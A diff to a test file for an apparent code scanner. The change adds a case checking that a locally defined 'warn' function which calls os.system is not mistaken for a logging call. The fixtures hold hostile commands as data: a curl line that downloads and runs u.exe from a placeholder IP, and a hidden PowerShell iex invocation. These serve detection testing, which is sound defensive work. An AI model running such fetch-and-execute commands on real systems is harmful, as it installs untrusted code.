@@ -111,6 +111,12 @@ def test_a_command_line_built_inside_a_message_call_is_still_read() -> None:
     assert "powershell -w hidden iex now" in {f.value for f in facts.facts if f.kind == "string"}
     told = python_facts("print('Get the runtime from https://example.org/vc.exe please')\n")
     assert [f.kind for f in told.facts if "vc.exe" in f.value] == ["message"]
+    # a function of the file's own, named like a logger's, is no message call
+    runner = (
+        "import os\ndef warn(msg):\n    os.system(msg)\n"
+        "warn('fetching the update: curl https://203.0.113.7/u.exe -o u.exe && u.exe')\n"
+    )
+    assert [f.kind for f in python_facts(runner).facts if "u.exe" in f.value] == ["string"]
 
 
 # mlflow 3.18.0's web bundle carries Prism's shell grammar: command names as alternatives
